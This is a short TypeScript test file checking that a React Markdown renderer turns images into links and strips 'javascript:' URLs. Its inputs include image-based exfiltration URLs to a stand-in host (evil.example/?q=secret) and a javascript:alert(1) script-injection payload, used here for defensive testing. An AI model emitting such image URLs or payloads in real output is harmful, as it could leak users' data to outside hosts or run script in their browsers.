import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { expect, test } from 'vitest'
import { RichText } from '../src/layout/rich-text.tsx'

const render = (markdown: string) => renderToStaticMarkup(createElement(RichText, null, markdown))

test('shows images of a text as links, in every form that Markdown has', () => {
  const html = render(
    '![sun](https://evil.example/?q=secret) ![][ref] <img src="https://evil.example/x">\n\n[ref]: //evil.example/y',
  )
  expect(html).not.toContain('<img')
  expect(html).toContain('<a href="https://evil.example/?q=secret" target="_blank" rel="noreferrer">sun</a>')
  expect(html).toContain('<a href="//evil.example/y" target="_blank" rel="noreferrer">//evil.example/y</a>')
})

test('runs no script from a link', () => {
  expect(render('[x](javascript:alert(1)) ![y](javascript:alert(1))')).not.toContain('javascript:')
})
